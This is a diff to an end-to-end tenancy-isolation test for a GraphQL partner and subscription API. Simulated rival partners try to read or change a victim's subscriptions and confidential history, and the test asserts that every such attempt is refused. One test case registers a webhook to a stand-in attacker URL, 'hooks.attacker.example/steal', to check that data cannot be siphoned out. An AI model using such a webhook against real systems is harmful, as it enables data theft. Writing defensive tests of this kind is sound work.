@@ -15,6 +15,7 @@ import {
 import { Role } from '../src/common/auth/roles';
 import {
   CreateCustomerInvitationDocument,
+  type CreateSubscriptionInput,
   CreatePartnerDocument,
   CreateSubscriptionDocument,
   RemovePartnershipDocument,
@@ -56,13 +57,37 @@ interface Victim {
   admin: { active: string; pending: string; pendingToken: string; open: string };
   /** the token of a three-party invitation naming V, made by a former reseller before V removed their partnership */
   staleThreeParty: string;
-  /** the ids of V's records that no field above names, by kind: relationships, admin privileges, audit records, events */
+  /**
+   * V's subscriptions through their life: one with a change scheduled for its renewal, a suspended one, a
+   * cancelled one, and the two sides of an upgrade (each with R as reseller of record but the cancelled one)
+   */
+  lifecycle: { scheduled: string; suspended: string; cancelled: string; upgradedFrom: string; upgradedTo: string };
+  /** the ids of V's records that no field above names, by kind: relationships, admin privileges, audit records, events, its subscriptions' history */
   records: string[][];
 }
 
+/** What V wrote in its subscriptions' history: no one else may read it. */
+const SUSPENSION_REASON = 'Victim confidential: customer in insolvency proceedings, case 4471';
+const CANCELLATION_REASON = 'Victim confidential: duplicate order VX-9902';
+
+/** The lifecycle operations: refused to everyone but the seller's GLOBAL_ADMIN and ADMIN_AGENT, with nothing that tells the subscription exists. */
+const LIFECYCLE = new Set([
+  'cancellationPreview',
+  'subscriptionUpgrades',
+  'cancelSubscription',
+  'suspendSubscription',
+  'reactivateSubscription',
+  'setSubscriptionAutoRenew',
+  'scheduleSubscriptionChange',
+  'cancelScheduledSubscriptionChange',
+  'upgradeSubscription',
+]);
+
 type Vars = (v: Victim) => Record<string, unknown>;
+/** node(id) is tried with each id named by Victim (namedIds) and one record of each other kind (Victim.records). */
+const NODE_PROBES = 23;
 /** `variables` for a query or mutation, `trigger` for a subscription (a name that is both, such as `events`, has both) */
-type OperationCase = { variables?: Vars[]; trigger?: (v: Victim) => Promise<void> };
+type OperationCase = { variables?: Vars[]; trigger?: (v: Victim) => Promise<void>; refusals?: string[] };
 
 /** The audit trail's filters on the victim's ids (Query.activities and the export's parameters). */
 const TRAIL_FILTERS: ((v: Victim) => Record<string, unknown>)[] = [
@@ -92,7 +117,7 @@ const CASES: Record<string, OperationCase> = {
   viewer: { variables: [() => ({})] },
   // Relay's refetch: every id the victim owns, one by one and all at once
   // (node: each named id, and one record of each other kind; nodes: all of them)
-  node: { variables: [...Array(17).keys()].map((i) => (v: Victim) => ({ id: [...namedIds(v), ...v.records.map((kind) => kind[0])][i] })) },
+  node: { variables: [...Array(NODE_PROBES).keys()].map((i) => (v: Victim) => ({ id: [...namedIds(v), ...v.records.map((kind) => kind[0])][i] })) },
   nodes: { variables: [(v) => ({ ids: nodeIds(v) })] },
   partner: { variables: [(v) => ({ id: v.provider.id }), (v) => ({ id: v.reseller.id })] },
   partners: { variables: [() => ({ first: 100 }), () => ({ filter: { search: 'Victim' } })] },
@@ -159,6 +184,68 @@ const CASES: Record<string, OperationCase> = {
       (v) => ({ input: { subscriptionId: v.privateSubscription, quantity: 9 } }),
     ],
   },
+  // the subscription lifecycle, on each of the victim's subscriptions in the state where the call would apply
+  serverTime: { variables: [() => ({})] },
+  cancellationPreview: {
+    variables: [
+      (v) => ({ subscriptionId: v.subscription }),
+      (v) => ({ subscriptionId: v.lifecycle.scheduled }),
+      (v) => ({ subscriptionId: v.lifecycle.cancelled }),
+    ],
+    refusals: ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND'],
+  },
+  subscriptionUpgrades: {
+    variables: [(v) => ({ subscriptionId: v.lifecycle.scheduled }), (v) => ({ subscriptionId: v.lifecycle.upgradedTo })],
+    refusals: ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND'],
+  },
+  cancelSubscription: {
+    variables: [
+      (v) => ({ input: { subscriptionId: v.subscription, reason: 'Attacker cancels' } }),
+      (v) => ({ input: { subscriptionId: v.privateSubscription } }),
+      (v) => ({ input: { subscriptionId: v.lifecycle.suspended, reason: 'Attacker cancels' } }),
+    ],
+    refusals: ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND'],
+  },
+  suspendSubscription: {
+    variables: [
+      (v) => ({ input: { subscriptionId: v.subscription, reason: 'Attacker suspends' } }),
+      (v) => ({ input: { subscriptionId: v.lifecycle.upgradedTo } }),
+    ],
+    refusals: ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND'],
+  },
+  reactivateSubscription: {
+    variables: [(v) => ({ input: { subscriptionId: v.lifecycle.suspended } })],
+    refusals: ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND'],
+  },
+  setSubscriptionAutoRenew: {
+    variables: [
+      (v) => ({ input: { subscriptionId: v.lifecycle.scheduled, autoRenew: false } }),
+      (v) => ({ input: { subscriptionId: v.privateSubscription, autoRenew: false } }),
+    ],
+    refusals: ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND'],
+  },
+  scheduleSubscriptionChange: {
+    variables: [
+      (v) => ({ input: { subscriptionId: v.subscription, quantity: 1 } }),
+      (v) => ({
+        input: { subscriptionId: v.lifecycle.scheduled, quantity: 1, termDuration: 'P1M', billingFrequency: 'MONTHLY', offerId: 'm365-business-basic' },
+      }),
+    ],
+    refusals: ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND'],
+  },
+  cancelScheduledSubscriptionChange: {
+    variables: [(v) => ({ input: { subscriptionId: v.lifecycle.scheduled } })],
+    refusals: ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND'],
+  },
+  upgradeSubscription: {
+    variables: [
+      (v) => ({ input: { subscriptionId: v.lifecycle.scheduled, targetOfferId: 'm365-business-standard' } }),
+      (v) => ({ input: { subscriptionId: v.lifecycle.upgradedTo, targetOfferId: 'm365-e3', quantity: 1 } }),
+    ],
+    refusals: ['UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND'],
+  },
+  // the operator's alone (a move would renew or expire the victim's subscriptions, which its view would show)
+  advanceTestClock: { variables: [() => ({ input: { by: 'P400D' } })], refusals: ['UNAUTHENTICATED', 'FORBIDDEN'] },
   webhookEndpoints: { variables: [() => ({ first: 20 })] },
   createWebhookEndpoint: { variables: [() => ({ input: { url: 'https://hooks.attacker.example/steal', eventTypes: ['CUSTOMER_CREATED'] } })] },
   updateWebhookEndpoint: {
@@ -212,6 +299,14 @@ let resellerToken: string;
 let sharedToken: string;
 const attackers: { name: string; token?: string }[] = [];
 
+/** One mutation that must succeed, as `token`; its data. */
+async function lifecycle<T = unknown>(token: string, mutation: string, input: Record<string, unknown>, select = '{ __typename }'): Promise<T> {
+  const inputType = `${mutation.charAt(0).toUpperCase()}${mutation.slice(1)}Input`;
+  const res = await t.client(token).raw<T>({ query: `mutation ($input: ${inputType}!) { ${mutation}(input: $input) ${select} }`, variables: { input } });
+  if (res.errors?.length || !res.data) throw new Error(`${mutation}: ${JSON.stringify(res.errors)}`);
+  return res.data;
+}
+
 async function onboard(type: 'DIRECT_RESELLER' | 'INDIRECT_PROVIDER' | 'INDIRECT_RESELLER', name: string, contactEmail: string) {
   const operator = t.client(await t.tokens.operator());
   const mpnId = uniqueMpnId();
@@ -221,8 +316,15 @@ async function onboard(type: 'DIRECT_RESELLER' | 'INDIRECT_PROVIDER' | 'INDIRECT
 
 beforeAll(async () => {
   // Every operation selects everything four levels deep, and a refusal by a limit would prove nothing
-  // about tenancy: the budgets are raised here (test/limits.e2e.test.ts tests them).
-  t = await startTestServer({ MAX_QUERY_COMPLEXITY: '1000000', ANONYMOUS_MAX_COMPLEXITY: '1000000', ANONYMOUS_RATE_LIMIT: '100000' });
+  // about tenancy: the budgets (cost, tokens) are raised here (test/limits.e2e.test.ts tests them).
+  // the test clock on: advanceTestClock is refused for who calls it, not because the clock is off
+  t = await startTestServer({
+    MAX_QUERY_COMPLEXITY: '1000000',
+    MAX_QUERY_TOKENS: '1000000',
+    ANONYMOUS_MAX_COMPLEXITY: '1000000',
+    ANONYMOUS_RATE_LIMIT: '100000',
+    TEST_CLOCK: 'true',
+  });
   const introspection = await t.client().raw<IntrospectionQuery>({ query: getIntrospectionQuery() });
   schema = buildClientSchema(introspection.data!);
 
@@ -240,12 +342,34 @@ beforeAll(async () => {
   });
   const shared = await createCustomer(t, provider.token, { companyName: 'Shared Customer Corporation', indirectResellerId: reseller.id });
   sharedToken = await t.tokens.customer(shared.id);
-  const sell = async (customerId: string) =>
+  const sell = async (customerId: string, more: Partial<CreateSubscriptionInput> = {}) =>
     (
       await t.client(provider.token).data(CreateSubscriptionDocument, {
-        input: { customerId, offerId: 'm365-e5', quantity: 4, resellerId: reseller.id, supportContactId: reseller.id },
+        input: { customerId, offerId: 'm365-e5', quantity: 4, resellerId: reseller.id, supportContactId: reseller.id, ...more },
       })
     ).createSubscription.subscription.id;
+  // the victim's subscriptions through their life (each call by its GLOBAL_ADMIN, in its history)
+  const scheduled = await sell(shared.id, { offerId: 'm365-business-basic', quantity: 3, termDuration: 'P1Y', billingFrequency: 'ANNUAL' });
+  await lifecycle(provider.token, 'scheduleSubscriptionChange', {
+    subscriptionId: scheduled,
+    quantity: 5,
+    termDuration: 'P3Y',
+    billingFrequency: 'TRIENNIAL',
+    offerId: 'm365-business-standard',
+  });
+  const suspended = await sell(own.id, { offerId: 'o365-e1', quantity: 7 });
+  await lifecycle(provider.token, 'suspendSubscription', { subscriptionId: suspended, reason: SUSPENSION_REASON });
+  const cancelled = await sell(own.id, { offerId: 'm365-e3', quantity: 2, resellerId: null, supportContactId: null });
+  await lifecycle(provider.token, 'cancelSubscription', { subscriptionId: cancelled, reason: CANCELLATION_REASON });
+  const upgradedFrom = await sell(shared.id, { offerId: 'm365-business-basic', quantity: 6 });
+  const upgradedTo = (
+    await lifecycle<{ upgradeSubscription: { subscription: { id: string } } }>(
+      provider.token,
+      'upgradeSubscription',
+      { subscriptionId: upgradedFrom, targetOfferId: 'm365-business-premium' },
+      '{ subscription { id } }',
+    )
+  ).upgradeSubscription.subscription.id;
   // the victim's webhook endpoint, with one delivery of its first event
   receiver = await startReceiver([200]);
   const webhook = await createEndpoint(t, provider.token, receiver.url, ['INVITATION_CREATED']);
@@ -296,6 +420,7 @@ beforeAll(async () => {
       open: openAdmin.adminRelationship.id,
     },
     staleThreeParty: staleThreeParty.token,
+    lifecycle: { scheduled, suspended, cancelled, upgradedFrom, upgradedTo },
     records: [],
   };
   // a customer that granted the victim delegated admin privileges (through an invitation)
@@ -310,13 +435,25 @@ beforeAll(async () => {
       activities(first: 10) { edges { node { id } } } events(first: 10) { edges { node { id } } } }`,
   });
   const ids = (list: (string | undefined)[]) => list.filter((id): id is string => !!id);
+  // the history of its subscriptions, as the victim reads it (the suspension and the cancellation first: they hold its reasons)
+  const { data: histories } = await t.client(provider.token).raw<{
+    nodes: { history: { edges: { node: { id: string; details: string | null } }[] } }[];
+  }>({
+    query: 'query ($ids: [ID!]!) { nodes(ids: $ids) { ... on CustomerSubscription { history(first: 100) { edges { node { id details } } } } } }',
+    variables: { ids: [suspended, cancelled, scheduled, upgradedFrom, upgradedTo] },
+  });
+  const history = histories!.nodes.flatMap((n) => n.history.edges.map((e) => e.node));
+  expect(history.map((h) => h.details ?? '').filter((d) => d.includes(SUSPENSION_REASON) || d.includes(CANCELLATION_REASON))).toHaveLength(2);
   victim.records = [
     ids(records!.customers.edges.map((e) => e.node.relationship?.id)),
     ids(records!.customers.edges.map((e) => e.node.delegatedAdminPrivileges?.id)),
     records!.activities.edges.map((e) => e.node.id),
     records!.events.edges.map((e) => e.node.id),
+    // the record holding the suspension's reason first (node(id) is tried with the first of each kind)
+    [...history.filter((h) => h.details?.includes(SUSPENSION_REASON)), ...history.filter((h) => !h.details?.includes(SUSPENSION_REASON))].map((h) => h.id),
   ];
-  expect(victim.records.map((kind) => kind.length > 0)).toEqual([true, true, true, true]);
+  expect(victim.records.map((kind) => kind.length > 0)).toEqual([true, true, true, true, true]);
+  expect(namedIds(victim).length + victim.records.length).toBe(NODE_PROBES);
 
   // the attackers: every role of three unrelated partners (one of them a partner of the shared customer too),
   // an unrelated customer's admin, and no token at all
@@ -325,6 +462,20 @@ beforeAll(async () => {
   const rivalProvider = await onboard('INDIRECT_PROVIDER', 'Rival Distribution Ltd', 'contact@rival-distribution.example');
   const rivalReseller = await onboard('INDIRECT_RESELLER', 'Rival Reseller Ltd', 'contact@rival-reseller.example');
   await createCustomer(t, rival.token, { companyName: 'Rival Own Customer Limited' });
+  // the rival's own subscriptions on the customer it shares with the victim, through their life: the paths from
+  // its own (customer → subscriptions → upgradedFrom / upgradedTo → history) must lead to none of the victim's
+  const rivalSale = (input: Record<string, unknown>) =>
+    lifecycle<{ createSubscription: { subscription: { id: string } } }>(
+      rival.token,
+      'createSubscription',
+      { customerId: shared.id, quantity: 2, ...input },
+      '{ subscription { id } }',
+    ).then((d) => d.createSubscription.subscription.id);
+  const rivalBasic = await rivalSale({ offerId: 'm365-business-basic' });
+  await lifecycle(rival.token, 'upgradeSubscription', { subscriptionId: rivalBasic, targetOfferId: 'm365-business-standard' });
+  const rivalSuspended = await rivalSale({ offerId: 'm365-e3' });
+  await lifecycle(rival.token, 'suspendSubscription', { subscriptionId: rivalSuspended, reason: 'Rival own reason' });
+  await lifecycle(rival.token, 'scheduleSubscriptionChange', { subscriptionId: await rivalSale({ offerId: 'm365-e3' }), quantity: 3 });
   for (const p of [rival, rivalProvider, rivalReseller]) {
     for (const role of PARTNER_ROLES) attackers.push({ name: `${p.name} ${role}`, token: await t.tokens.partner(p.id, role) });
   }
@@ -378,6 +529,11 @@ function namedIds(v: Victim): string[] {
     v.admin.active,
     v.admin.pending,
     v.admin.open,
+    v.lifecycle.scheduled,
+    v.lifecycle.suspended,
+    v.lifecycle.cancelled,
+    v.lifecycle.upgradedFrom,
+    v.lifecycle.upgradedTo,
   ];
 }
 
@@ -409,6 +565,13 @@ function secrets(v: Victim): string[] {
     v.admin.pendingToken,
     v.admin.open,
     'Victim Stored Helpdesk',
+    v.lifecycle.scheduled,
+    v.lifecycle.suspended,
+    v.lifecycle.cancelled,
+    v.lifecycle.upgradedFrom,
+    v.lifecycle.upgradedTo,
+    SUSPENSION_REASON,
+    CANCELLATION_REASON,
     ...v.records.flat(),
   ];
 }
@@ -457,13 +620,38 @@ function selectionFor(type: GraphQLObjectType | GraphQLAbstractType, depth: numb
 }
 
 /** An operation calling one root field with the given variables, selecting everything under it. */
-function operationFor(kind: 'query' | 'mutation' | 'subscription', field: GraphQLField<unknown, unknown>, variables: Record<string, unknown>): string {
+function operationFor(
+  kind: 'query' | 'mutation' | 'subscription',
+  field: GraphQLField<unknown, unknown>,
+  variables: Record<string, unknown>,
+  depth = 4,
+): string {
   const args = field.args.filter((a) => a.name in variables);
   const defs = args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
   const passed = args.map((a) => `${a.name}: $${a.name}`).join(', ');
   const named = getNamedType(field.type);
-  const selection = isObjectType(named) || isAbstractType(named) ? `{ ${selectionFor(named, 4)} }` : '';
+  const selection = isObjectType(named) || isAbstractType(named) ? `{ ${selectionFor(named, depth)} }` : '';
   return `${kind} Probe${defs ? `(${defs})` : ''} { ${field.name}${passed ? `(${passed})` : ''} ${selection} }`;
+}
+
+const fitted = new Map<string, string>();
+/**
+ * The operation with the deepest selection (four levels at most) the cost limit takes, however raised:
+ * lists of offers nest without end (Offer.upgradeTargets), and a refusal by the limit would prove
+ * nothing. The cost is checked before anything runs: an anonymous call tells it.
+ */
+async function fittingOperation(kind: 'query' | 'mutation', field: GraphQLField<unknown, unknown>, variables: Record<string, unknown>): Promise<string> {
+  const key = `${field.name} ${Object.keys(variables).sort().join(',')}`;
+  const known = fitted.get(key);
+  if (known) return known;
+  for (let depth = 4; ; depth--) {
+    const query = operationFor(kind, field, variables, depth);
+    const res = depth > 1 ? await t.client().raw({ query, variables }) : undefined;
+    if (!res?.errors?.some((e) => e.extensions?.code === 'GRAPHQL_VALIDATION_FAILED' && e.extensions.cost !== undefined)) {
+      fitted.set(key, query);
+      return query;
+    }
+  }
 }
 
 function rootFields(): { kind: 'query' | 'mutation' | 'subscription'; field: GraphQLField<unknown, unknown> }[] {
@@ -569,7 +757,7 @@ it('answers every query and mutation with nothing of the victim’s, and changes
     if (!spec?.variables) throw new Error(`${kind} ${field.name} needs a variables case`);
     for (const make of spec.variables) {
       const variables = make(victim);
-      const query = operationFor(kind, field, variables);
+      const query = await fittingOperation(kind as 'query' | 'mutation', field, variables);
       for (const attacker of attackers) {
         const label = `${attacker.name}: ${field.name}(${JSON.stringify(variables)})`;
         const res = await t.client(attacker.token).raw({ query, variables });
@@ -578,15 +766,115 @@ it('answers every query and mutation with nothing of the victim’s, and changes
         for (const err of res.errors ?? []) {
           // a refusal by the cost or depth limit would prove nothing: bad input must name the field the victim's id was in
           const code = String(err.extensions?.code);
-          const allowed = ALLOWED_CODES.has(code) && (code !== 'BAD_USER_INPUT' || Boolean(err.extensions?.fields?.length));
+          const allowed = spec.refusals
+            ? spec.refusals.includes(code)
+            : ALLOWED_CODES.has(code) && (code !== 'BAD_USER_INPUT' || Boolean(err.extensions?.fields?.length));
           expect({ label, error: allowed ? 'allowed' : err }).toEqual({ label, error: 'allowed' });
         }
         expectNoLeak(res, variables, label);
+        // after each mutation, the victim's whole view (which call changed it); after a query, once all the attackers sent it
+        if (kind === 'mutation') {
+          const after = await victimView();
+          expect({ label, changed: after !== before }).toEqual({ label, changed: false });
+          before = after;
+        }
+      }
+      if (kind === 'query') {
+        const label = `${field.name}(${JSON.stringify(variables)}) by any attacker`;
         const after = await victimView();
         expect({ label, changed: after !== before }).toEqual({ label, changed: false });
         before = after;
       }
     }
   }
-  expect(calls).toBeGreaterThan(500);
-}, 240_000);
+  expect(calls).toBeGreaterThan(1000);
+  // about 1,900 calls, and the victim's whole view after each mutation: minutes, more on MariaDB
+}, 600_000);
+
+/** Everything of a subscription an attacker could reach its history through, two upgrade steps deep. */
+const HISTORY =
+  'history(first: 30) { totalCount edges { node { id action details correlationId actor { userId partnerId customerId } changes { field before after } } } }';
+const SUBSCRIPTION = `id status quantity autoRenew termEndsAt endedAt scheduledChange { quantity termDuration offer { id } } ${HISTORY}`;
+const UPGRADES = `${SUBSCRIPTION} upgradedFrom { ${SUBSCRIPTION} upgradedFrom { id } upgradedTo { id } } upgradedTo { ${SUBSCRIPTION} upgradedFrom { id } upgradedTo { id } }`;
+/** The same under a customer's subscriptions, within the depth limit (10) */
+const OWN_SUBSCRIPTION =
+  'id status history(first: 30) { edges { node { id action details } } } upgradedFrom { id status history { totalCount } } upgradedTo { id status history { totalCount } }';
+
+it('keeps the victim’s subscriptions and their history (reasons, actors, changes) out of every path from an attacker’s own', async () => {
+  const query = `query ($ids: [ID!]!) {
+    customers(first: 20) { edges { node { id subscriptions(first: 20) { totalCount edges { node { ${OWN_SUBSCRIPTION} } } } } } }
+    nodes(ids: $ids) { id ... on CustomerSubscription { ${UPGRADES} } ... on Activity { id details } }
+    activities(first: 50, filter: { subjectType: SUBSCRIPTION }) { totalCount edges { node { id subjectId details changes { field before after } } } }
+  }`;
+  const ids = [
+    ...namedIds(victim).filter((id) => [victim.subscription, victim.privateSubscription, ...Object.values(victim.lifecycle)].includes(id)),
+    ...victim.records[4],
+  ];
+  // the control: the victim reads its reasons through these paths
+  const own = await t.client(victimToken).raw({ query, variables: { ids } });
+  expect(own.errors).toBeUndefined();
+  expect(JSON.stringify(own.data)).toContain(SUSPENSION_REASON);
+  expect(JSON.stringify(own.data)).toContain(CANCELLATION_REASON);
+  for (const attacker of attackers) {
+    const label = `${attacker.name}: the paths to subscription history`;
+    const res = await t.client(attacker.token).raw({ query, variables: { ids } });
+    expect({ label, status: res.status < 500 }).toEqual({ label, status: true });
+    for (const err of res.errors ?? [])
+      expect({ label, code: ['UNAUTHENTICATED', 'FORBIDDEN'].includes(String(err.extensions?.code)) }).toEqual({ label, code: true });
+    // the victim's objects are null in `nodes`, wherever an id was sent
+    expectNoLeak(res, { ids }, label);
+  }
+  // the rival's own upgraded and suspended subscriptions are read through the same paths (the query reaches the history)
+  const rivalAdmin = attackers.find((a) => a.name === `Rival Resale Ltd ${Role.GLOBAL_ADMIN}`)!;
+  const rivals = JSON.stringify((await t.client(rivalAdmin.token).raw({ query, variables: { ids } })).data);
+  expect(rivals).toContain('Rival own reason');
+  expect(rivals).toContain('SUBSCRIPTION_UPGRADED');
+}, 60_000);
+
+it('lets the reseller of record, the customer and the victim’s other roles read its subscriptions, and change none of them', async () => {
+  const resellerRole = (role: Role) => t.tokens.partner(victim.reseller.id, role);
+  const managers: string[] = [Role.GLOBAL_ADMIN, Role.ADMIN_AGENT];
+  const sellers = [Role.SALES_AGENT];
+  // codes: how each may be refused (a role the operation is not for: FORBIDDEN; a partner that did not sell it: NOT_FOUND)
+  const readers: { name: string; token: string; codes: string[]; reads: boolean }[] = [];
+  for (const role of PARTNER_ROLES) {
+    // the reseller of record reads the subscription, but only its seller changes it (or previews and lists its upgrades)
+    const codes = managers.includes(role) ? ['NOT_FOUND'] : ['NOT_FOUND', 'FORBIDDEN'];
+    readers.push({ name: `the reseller of record's ${role}`, token: await resellerRole(role), codes, reads: [...managers, ...sellers].includes(role) });
+  }
+  readers.push({ name: 'the customer’s admin', token: sharedToken, codes: ['FORBIDDEN', 'NOT_FOUND'], reads: true });
+  for (const role of [Role.SALES_AGENT, Role.USER_ADMIN, Role.BILLING_ADMIN]) {
+    readers.push({ name: `the victim's own ${role}`, token: await t.tokens.partner(victimId, role), codes: ['FORBIDDEN'], reads: role === Role.SALES_AGENT });
+  }
+  // they read it (the reseller of record and the customer through node(id); the victim's roles as its own)
+  for (const reader of readers.filter((r) => r.reads)) {
+    const res = await t.client(reader.token).raw<{ node: { id: string; status: string } | null }>({
+      query: 'query ($id: ID!) { node(id: $id) { ... on CustomerSubscription { id status scheduledChange { quantity } } } }',
+      variables: { id: victim.lifecycle.scheduled },
+    });
+    expect({ who: reader.name, read: res.data?.node?.id }).toEqual({ who: reader.name, read: victim.lifecycle.scheduled });
+  }
+  let before = await victimView();
+  let calls = 0;
+  for (const { kind, field } of rootFields().filter((r) => LIFECYCLE.has(r.field.name))) {
+    for (const make of CASES[field.name].variables!) {
+      const variables = make(victim);
+      const query = await fittingOperation(kind as 'query' | 'mutation', field, variables);
+      for (const reader of readers) {
+        // the victim's SALES_AGENT previews and lists upgrades of its own partner's subscriptions: those are reads
+        if (kind === 'query' && reader.name === `the victim's own ${Role.SALES_AGENT}`) continue;
+        const label = `${reader.name}: ${field.name}(${JSON.stringify(variables)})`;
+        const res = await t.client(reader.token).raw({ query, variables });
+        calls++;
+        const codes = (res.errors ?? []).map((e) => String(e.extensions?.code));
+        const refused = codes.length > 0 && codes.every((c) => reader.codes.includes(c));
+        expect({ label, refused, answer: refused ? null : res }).toEqual({ label, refused: true, answer: null });
+        expect({ label, data: (res.data as Record<string, unknown> | null | undefined)?.[field.name] ?? null }).toEqual({ label, data: null });
+        const after = await victimView();
+        expect({ label, changed: after !== before }).toEqual({ label, changed: false });
+        before = after;
+      }
+    }
+  }
+  expect(calls).toBeGreaterThan(100);
+}, 120_000);
